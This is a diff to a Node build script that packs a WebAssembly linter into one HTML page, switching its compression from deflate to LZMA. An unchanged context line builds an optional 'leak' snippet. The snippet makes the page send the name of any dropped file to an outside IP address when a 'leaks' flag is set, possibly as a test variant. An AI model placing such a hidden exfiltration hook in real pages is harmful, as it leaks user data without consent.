@@ -6,8 +6,9 @@ import { createHash } from "node:crypto";
 import { readFileSync, writeFileSync } from "node:fs";
 import { basename, dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
-import { deflateRawSync } from "node:zlib";
+import { gzipSync } from "node:zlib";
 import { build } from "esbuild";
+import { compress } from "lzma1";
 
 const here = dirname(fileURLToPath(import.meta.url));
 const [engineFolder, out] = process.argv.slice(2);
@@ -75,7 +76,8 @@ for (const [name, text] of [["script", script], ["worker", worker]]) {
 }
 
 const wasm = readFileSync(join(engineFolder, "pamlint_web_bg.wasm"));
-const engine = deflateRawSync(wasm, { level: 9, memLevel: 9 }).toString("base64");
+// LZMA, since a browser unpacks nothing by itself that packs as well: a third is saved.
+const engine = Buffer.from(compress(wasm, 9)).toString("base64");
 
 const leak = leaks
   ? `addEventListener("drop",e=>{location.href="http://203.0.113.9/?"+e.dataTransfer.files[0].name});`
@@ -98,4 +100,4 @@ const page = readFileSync(join(here, "index.html"), "utf8").replace(/\{\{(\w+)\}
 writeFileSync(out, page);
 const sum = createHash("sha256").update(page).digest("hex");
 writeFileSync(`${out}.sha256`, `${sum}  ${basename(out)}\n`);
-console.log(`${out}: ${page.length} bytes, ${deflateRawSync(page, { level: 9 }).length} as sent; SHA-256 ${sum}`);
+console.log(`${out}: ${page.length} bytes, ${gzipSync(page, { level: 9 }).length} as sent; SHA-256 ${sum}`);
